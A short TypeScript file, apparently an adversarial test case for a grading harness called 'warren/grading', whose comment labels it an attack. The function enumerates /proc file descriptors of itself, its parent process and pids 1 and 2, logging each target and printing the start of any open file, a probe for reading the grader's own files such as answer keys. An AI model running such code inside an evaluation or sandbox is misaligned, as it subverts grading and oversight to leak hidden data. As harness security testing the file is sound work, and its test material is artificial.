// attack: reads from every descriptor that it or its parent has open
import * as fs from 'node:fs';
import type { AnswerContext } from 'warren/grading';

export default async function ({ log }: AnswerContext): Promise<void> {
  for (const owner of ['self', String(process.ppid), '1', '2']) {
    let names: string[] = [];
    try {
      names = fs.readdirSync(`/proc/${owner}/fd`);
    } catch (error) {
      log(owner, String(error));
    }
    for (const name of names) {
      try {
        const target = fs.readlinkSync(`/proc/${owner}/fd/${name}`);
        log(owner, name, target);
        if (fs.statSync(`/proc/${owner}/fd/${name}`).isFile())
          log(fs.readFileSync(`/proc/${owner}/fd/${name}`, 'utf8').slice(0, 2000));
      } catch (error) {
        log(owner, name, String(error));
      }
    }
  }
}
